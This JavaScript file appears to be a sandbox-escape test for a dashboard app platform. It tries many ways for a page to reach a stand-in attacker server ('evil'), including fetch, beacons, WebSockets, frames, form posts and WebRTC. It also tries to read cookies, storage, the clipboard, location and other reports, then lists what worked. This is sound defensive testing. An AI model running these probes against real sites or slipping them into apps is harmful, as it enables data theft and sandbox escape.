// An app that tries everything that a page could do, and shows what worked. `target` has the server of the attacker,
// its port for STUN, and a report of another dashboard. Not a module, because it runs as an inline script.
/* global target, pa */
(async () => {
  const { evil, port, report } = target;
  const worked = [];
  const pause = ms => new Promise(resolve => setTimeout(resolve, ms));
  /** Limits the time of an attempt, because some attempts never end if nothing responds. */
  const attempt = async (name, run) => {
    try {
      const result = await Promise.race([run(), pause(300)]);
      if (result !== false && result !== null && result !== undefined) worked.push(name);
    } catch {
      // The attempt is expected to fail.
    }
  };
  const insert = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
  const opened = ({ onopen, onerror }, source) =>
    new Promise((resolve, reject) => Object.assign(source, { [onopen]: resolve, [onerror]: reject }));
  // The source of an app cannot contain the markup of a frame, but its scripts can create it.
  const less = String.fromCharCode(60);
  let received = 0;
  addEventListener('message', () => {
    received += 1;
  });
  await pause(0);

  await attempt('parent', () => parent.document);
  await attempt('host', () => parent.parent.document);
  await attempt('host location', () => top.location.href);
  await attempt('host properties', () => parent.parent.customElements);
  parent.postMessage({ version: 1 }, '*');
  parent.parent.postMessage({ version: 1, type: 'load', id: 1, report: 1 }, '*');
  await attempt('storage', () => localStorage);
  await attempt('session storage', () => sessionStorage);
  await attempt('cookies', () => `${document.cookie} `);
  await attempt('databases', () => opened({ onopen: 'onsuccess', onerror: 'onerror' }, indexedDB.open('x')));
  await attempt('caches', () => caches.open('x'));
  await attempt('fetch', () => fetch(`${evil}/fetch`));
  await attempt('blind fetch', () => fetch(`${evil}/blind`, { mode: 'no-cors', method: 'POST', body: 'x' }));
  await attempt('beacon', () => void navigator.sendBeacon(`${evil}/beacon`, 'x'));
  const events = { onopen: 'onopen', onerror: 'onerror' };
  await attempt('socket', () => opened(events, new WebSocket(evil.replace('http', 'ws'))));
  await attempt('events', () => opened(events, new EventSource(`${evil}/events`)));
  await attempt('code in a timer', () => void setTimeout('globalThis.timed = true', 0));
  await pause(50);
  await attempt('timer', () => globalThis.timed);
  await attempt('function', () => new Function('return 1')());
  const worker = () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
  await attempt('worker', () => opened({ onopen: 'onmessage', onerror: 'onerror' }, worker()));
  await attempt('import', () => import(`${evil}/module.js`));
  const nonce = document.querySelector('script').nonce;
  await attempt('script', () => void insert('script', { src: `${evil}/script.js`, nonce }));
  await attempt('image', () => void insert('img', { src: `${evil}/image.png` }));
  for (const rel of ['stylesheet', 'prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon']) {
    await attempt(rel, () => void insert('link', { rel, href: `${evil}/${rel}`, as: 'script' }));
  }
  await attempt(
    'css',
    () => void insert('style', { textContent: `@import "${evil}/i"; p { background: url(${evil}/b) }` }),
  );
  insert('p', {});
  await attempt('media', () => void insert('video', { src: `${evil}/video`, autoplay: true }));
  await attempt('object', () => void insert('object', { data: `${evil}/object` }));
  await attempt('embed', () => void insert('embed', { src: `${evil}/embed` }));
  await attempt('frame', () => void insert('iframe', { src: `${evil}/frame` }));
  await attempt('blob frame', () => {
    const page = new Blob([`<img src="${evil}/blob">`], { type: 'text/html' });
    insert('iframe', { src: URL.createObjectURL(page) });
  });
  await attempt('nested document', () => insert('iframe', { srcdoc: '<p>1</p>' }));
  await attempt('nested attribute', () => insert('iframe', {}).setAttribute('srcdoc', 'x') ?? true);
  await attempt('nested markup', () => insert('div', { innerHTML: `${less}ifRAME srcdoc="x">` }));
  await attempt('nested markup in XML', () => {
    const xml = `<!DOCTYPE a [${less}!ENTITY e "&#60;&#105;frame/>">]><a>&e;</a>`;
    return new DOMParser().parseFromString(xml, 'text/xml');
  });
  await attempt('nested realm', () => insert('iframe', {}).contentWindow.document);
  await attempt('form', () => insert('form', { action: `${evil}/form`, method: 'post' }).submit());
  await attempt('window', () => window.open(`${evil}/window`));
  await attempt('top', () => void Object.assign(top.location, { href: `${evil}/top` }));
  await attempt('parent location', () => void parent.location.replace(`${evil}/parent`));
  await attempt('webrtc', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    return peer;
  });
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('location', () => new Promise((...on) => navigator.geolocation.getCurrentPosition(...on)));
  await attempt('other report', () => pa.load(report));
  await attempt('interface', () => Object.assign(pa, { reports: [] }));
  await pause(1_000);
  if (received > 0) worked.push('messages of others');
  document.body.replaceChildren(`done: ${worked.join(', ') || 'nothing'}.`);
})();
